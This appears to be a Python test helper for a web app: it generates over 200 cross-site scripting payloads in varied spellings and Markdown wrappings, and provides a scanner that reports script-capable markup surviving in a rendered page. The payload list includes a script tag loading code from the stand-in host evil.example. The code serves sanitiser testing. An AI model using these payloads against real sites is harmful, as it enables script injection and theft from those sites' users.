"""Cross-site scripting payloads, and a check that a page carries none of them live.

The payloads are classic vectors (script tags, event handlers, javascript: and data: URLs,
SVG and MathML tricks, attribute and tag breakouts, template and CSS injection, Markdown
links and autolinks) in several spellings: as written, upper case, entity-encoded, split
by null bytes or newlines, and wrapped in Markdown. ``PAYLOADS`` holds well over 200.

``live_markup(html)`` lists what in a page could run script: script elements that are not
the app's own files, ``on*`` event attributes, script-capable URLs in link, source and
action attributes, frames, objects, embeds, ``srcdoc``, ``<base>`` and meta refreshes.
An escaped payload is text and never shows up; a sanitiser that lets one through does.
"""
import html
import re
from html.parser import HTMLParser

_MARKER = "alert(1)"

_VECTORS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"&#106;avascript:alert(1)\">click</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=`x` onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x](\"onmouseover=alert(1))",
    "[a](https://example.com\"onmouseover=\"alert(1))",
]


def _spellings(vector):
    yield vector
    yield vector.upper().replace("ALERT(1)", _MARKER)
    yield html.escape(vector)  # double-encoding must stay text too
    yield vector.replace("<", "<\x00", 1)
    yield vector.replace(" ", "\n", 1)


def _wrapped(vector):
    yield vector
    yield f"**bold** {vector} _end_"
    yield f"> {vector}"
    yield f"- item\n- {vector}"


def _payloads():
    seen, out = set(), []
    for vector in _VECTORS:
        for spelling in _spellings(vector):
            for text in _wrapped(spelling):
                if text not in seen:
                    seen.add(text)
                    out.append(text)
    return out


PAYLOADS = _payloads()

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster"}
_FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset", "applet"}
_SCRIPT_URL = re.compile(r"^\s*(javascript|vbscript|data)\s*:", re.I)


class _Scanner(HTMLParser):
    def __init__(self, own_script_prefix):
        super().__init__(convert_charrefs=True)
        self.own = own_script_prefix
        self.found = []

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        if tag == "script" and not (values.get("src") or "").startswith(self.own):
            self.found.append(f"<script> {values}")
        if tag in _FORBIDDEN_TAGS:
            self.found.append(f"<{tag}>")
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "refresh":
            self.found.append("<meta refresh>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            if name == "srcdoc":
                self.found.append(f"<{tag} srcdoc>")
            if name in _URL_ATTRIBUTES and value and _SCRIPT_URL.match(value.replace("\x00", "")):
                self.found.append(f"<{tag} {name}={value[:40]}>")
            if name == "style" and "javascript:" in (value or "").lower():
                self.found.append(f"<{tag} style=javascript>")

    handle_startendtag = handle_starttag


def live_markup(page_html, own_script_prefix="/static/"):
    """What in this HTML could run script; an empty list when the page is inert."""
    scanner = _Scanner(own_script_prefix)
    scanner.feed(page_html)
    scanner.close()
    return scanner.found
